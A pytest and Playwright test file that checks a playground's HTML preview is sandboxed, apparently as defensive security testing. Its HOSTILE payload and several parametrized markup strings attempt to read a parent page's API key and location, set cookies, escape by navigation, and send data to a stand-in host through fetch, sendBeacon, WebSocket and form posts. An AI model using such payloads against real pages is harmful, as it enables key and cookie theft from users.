"""The preview renders what was generated, and what was generated can reach nothing from there."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import cast

import pytest
from playwright.sync_api import expect

from tests.service.playground.person import Person
from tests.service.playground.playing_service import KEY
from tests.service.processes import wait_until

SVG = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text y='9'>Owls</text></svg>"
PAGE = "<!doctype html><title>t</title><style>h1{color:rgb(1,2,3)}</style><h1>Owls</h1><script>document.body.append(6*7)</script>"


@pytest.mark.parametrize("output_type", ["Website", "Email", "Word", "PDF", "Slides", "Video", "Chart"])
def test_a_page_is_rendered_with_its_styles_and_scripts(person: Person, output_type: str) -> None:
    person.chooses(output_type)
    person.generates(f"say {PAGE}")
    heading = person.previews().get_by_role("heading", name="Owls")
    expect(heading).to_be_visible()
    expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    expect(person.previews().get_by_text("42")).to_be_visible()
    person.clicks("Text")
    assert person.output == PAGE
    assert person.page.locator("iframe").count() == 0


@pytest.mark.parametrize("output_type", ["Chart", "Image", "Video"])
def test_a_picture_is_rendered(person: Person, output_type: str) -> None:
    person.chooses(output_type)
    person.generates(f"say {SVG}")
    expect(person.previews().locator("svg text")).to_have_text("Owls")


def test_a_table_is_shown_as_cells_of_text(person: Person) -> None:
    person.chooses("Excel")
    person.generates('say name,note\nOwl,"a, ""b""\nc"\n<b>x</b>,\n')
    person.clicks("Preview")
    rows = person.page.locator("#preview tr")
    cells = [row.locator("th, td").all_text_contents() for row in rows.all()]
    assert cells == [["name", "note"], ["Owl", 'a, "b"\nc'], ["<b>x</b>", ""]]


@pytest.mark.parametrize(
    ("output_type", "language"), [("API", "Python"), ("Website", "React"), ("Website", "Vue")]
)
def test_what_is_no_page_has_no_preview(person: Person, output_type: str, language: str) -> None:
    person.chooses(output_type)
    person.picks_language(language)
    person.generates("say <p>x</p>")
    expect(person.page.get_by_role("button", name="Preview")).to_be_hidden()


class _Listener(ThreadingHTTPServer):
    """A server of somebody else on this machine, which notes who asks it for something."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = ""
        noted = self.asked

        class Handler(BaseHTTPRequestHandler):
            def _note(self) -> None:
                noted.append(f"{self.command} {self.path}")
                body = cast("_Listener", self.server).page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _note  # noqa: N815 - the names that the library calls

            def log_message(self, *_words: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def elsewhere() -> Iterator[_Listener]:
    with _Listener() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join(10)


HOSTILE = """<!doctype html><body><form id=f action="THERE/form" method=post><input name=a></form>
<img src="THERE/img"><link rel=stylesheet href="THERE/css"><link rel=prefetch href="THERE/prefetch">
<iframe src="THERE/iframe"></iframe><object data="THERE/object"></object>
<script src="THERE/script"></script><pre id=log></pre><script>
const tries = {
  parentDocument: () => parent.document.title,
  parentKey: () => parent.document.getElementById("key").value,
  parentLocation: () => parent.location.href,
  top: () => { top.location = "THERE/top"; },
  parentMove: () => { parent.location.assign("THERE/parent"); },
  open: () => { if (window.open("THERE/open") === null) throw new Error("no window"); },
  form: () => document.getElementById("f").submit(),
  storage: () => localStorage.setItem("a", "b"),
  cookie: () => { document.cookie = "a=b"; },
  socket: () => new WebSocket("THERE/socket".replace("http", "ws")),
  events: () => new EventSource("THERE/events"),
  worker: () => new Worker("THERE/worker"),
  rtc: () => new RTCPeerConnection({}),
  beacon: () => { if (!navigator.sendBeacon("THERE/beacon", "x")) throw new Error("no beacon"); },
  listen: () => addEventListener("message", event => log("heard:" + event.data)),
  talk: () => { parent.postMessage("ready", "*"); parent.postMessage({fill: "x"}, "*"); },
};
const log = line => document.getElementById("log").append(line + "\\n");
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); log(name + ":did"); } catch (error) { log(name + ":threw"); }
}
const fetches = ["THERE/fetch", "/api/history", "HOME/api/history", "HOME/healthz"].map(address =>
  fetch(address).then(() => log("fetch:REACHED"), () => log("fetch:failed")));
const request = new XMLHttpRequest();
const asked = new Promise(resolve => { request.onload = () => resolve(log("xhr:REACHED")); request.onerror = () => resolve(log("xhr:failed")); });
request.open("GET", "HOME/healthz"); request.send();
Promise.all([...fetches, asked]).then(() => log("over"));
</script>"""


def test_hostile_output_reaches_neither_the_page_nor_the_key_nor_the_network(
    person: Person, url: str, elsewhere: _Listener
) -> None:
    there = f"http://127.0.0.1:{elsewhere.server_port}"
    served: list[str] = []
    person.page.on("response", lambda response: served.append(response.url))
    person.generates(f"say {HOSTILE.replace('THERE', there).replace('HOME', url)}")
    served.clear()
    log = person.previews().locator("#log")
    expect(log).to_contain_text("over", timeout=30_000)
    lines = log.inner_text().split()
    assert "REACHED" not in "".join(lines)
    threw = {line.partition(":")[0] for line in lines if line.endswith(":threw")}
    assert threw >= {
        "parentDocument",
        "parentKey",
        "parentLocation",
        "open",
        "storage",
        "cookie",
        "rtc",
        "top",
    }
    assert KEY not in log.inner_text()
    assert elsewhere.asked == []
    assert served == [f"{url}/playground/frame"]
    assert person.page.url == f"{url}/"
    assert len(person.page.context.pages) == 1
    assert person.page.context.cookies() == []
    person.clicks("Text")
    assert person.output.startswith("<!doctype html>")
    person.tab.errors.clear()  # the console has what the browser refused, one line each


@pytest.mark.parametrize(
    "markup",
    [
        "<script>location.href = 'THERE/self'</script>",
        "<meta http-equiv=refresh content='0; url=THERE/refresh'>",
        "<a id=a href='THERE/link' target=_top>x</a><script>a.click()</script>",
        "<a id=a href='THERE/link'>x</a><script>a.click()</script>",
        "<iframe srcdoc=\"<script>fetch('THERE/inner');location='THERE/away'</script>\"></iframe>",
    ],
)
def test_a_preview_can_go_nowhere(person: Person, url: str, elsewhere: _Listener, markup: str) -> None:
    there = f"http://127.0.0.1:{elsewhere.server_port}"
    person.generates(f"say <p>here</p>{markup.replace('THERE', there)}")
    with person.page.expect_console_message(timeout=20_000):  # the browser says that it refused
        person.clicks("Preview")
    assert elsewhere.asked == []
    assert person.page.url == f"{url}/"
    person.tab.errors.clear()


def test_a_preview_that_never_ends_does_not_hold_the_page(person: Person) -> None:
    person.generates("say <h1>here</h1><script>for (;;) {}</script>")
    person.clicks("Preview")
    expect(person.page.locator("#preview iframe")).to_be_visible()
    person.clicks("Text")
    person.generates("say and on")
    assert person.output == "and on"


def test_the_frame_takes_its_text_from_its_own_page_only(
    person: Person, url: str, elsewhere: _Listener
) -> None:
    """A page of another origin that holds the frame neither hears it nor fills it."""
    elsewhere.page = (
        "<script>heard = []; addEventListener('message', event => heard.push(event.data))</script>"
        f"<iframe sandbox='allow-scripts' src='{url}/playground/frame'></iframe>"
    )
    person.page.goto(f"http://127.0.0.1:{elsewhere.server_port}/holder")
    frame = person.page.frames[1]
    frame.wait_for_load_state()
    frame.evaluate("() => { arrived = false; addEventListener('message', () => { arrived = true; }); }")
    person.page.evaluate("() => frames[0].postMessage({fill: '<h1>hit</h1>'}, '*')")
    # Our listener was added last: when it has heard the message, the frame's own has had it.
    wait_until(lambda: bool(frame.evaluate("arrived")), "the message in the frame")
    assert frame.locator("h1").count() == 0
    assert person.page.evaluate("heard") == []
    person.tab.errors.clear()  # the browser says that "ready" was for somebody else
